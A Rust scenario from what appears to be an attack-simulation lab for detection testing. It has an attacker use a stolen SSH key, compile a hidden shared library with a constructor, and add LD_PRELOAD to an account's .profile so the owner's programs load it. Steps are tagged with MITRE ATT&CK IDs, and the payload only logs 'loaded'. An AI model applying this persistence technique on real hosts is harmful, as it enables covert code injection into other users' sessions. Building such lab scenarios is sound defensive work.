//! A library is built on the host and left in the profile of an account, so that every program of the owner's next session loads it.
//!
//! Hard because: what the library does, the owner's own programs do; a compiler is at home there; nothing goes out.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key, quoted};
use crate::life::{compile, host_tasks};
use crate::program::user;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("shell-3")?;
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    compile::prepare(lab, &host)?;
    // The attacker's key, and later the owner's, are both in the account.
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/deploy", user::DEPLOY)])?;
    for _ in lab.rounds(1) {
        compile::once(lab, &host)?;
        lab.wait(8..14);
    }
    compile::once(lab, &host)?;

    let attack = lab.attack("a library in the profile")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "deploy", to: &host };
    let (name, folder) = (lab.word(6), "/home/deploy/.cache");
    let (library, log) = (format!("{folder}/lib{name}.so"), format!("{folder}/{name}"));
    let step = attack.step("a library is built", &["T1078.003", "T1027.004"]);
    step.remote(&host, &attacker);
    step.file(&host, &library);
    let code = format!(
        "#include <stdio.h>\n__attribute__((constructor)) static void at(void) {{ FILE *f = fopen(\"{log}\", \"a\"); \
         if (f) {{ fputs(\"loaded\\n\", f); fclose(f); }} }}\n"
    );
    let build = format!(
        "{} mkdir -p {folder}; printf %s {} | gcc -shared -fPIC -o {library} -x c -; ls -l {library}",
        step.mark(&host)?,
        quoted(&code)
    );
    let said = thief.log_in(&build)?;
    ensure!(said.contains(&library), "the library was not built: {said}");
    drop(step);
    lab.wait(3..8);

    let step = attack.step("the profile loads it", &["T1546.004", "T1574.006"]);
    step.remote(&host, &attacker);
    step.file(&host, "/home/deploy/.profile");
    thief.log_in(&format!("{} echo export LD_PRELOAD={library} >> ~/.profile", step.mark(&host)?))?;
    drop(step);
    lab.wait(2..5);

    let step = attack.step("the owner works with it", &["T1574.006"]);
    step.file(&host, &log);
    step.infected(&host, &library);
    remote::work(lab, &admin, &host, "deploy")?;
    host.wait_for_file(&log)?;
    lab.wait(10..16);
    drop(step);
    Ok(())
}
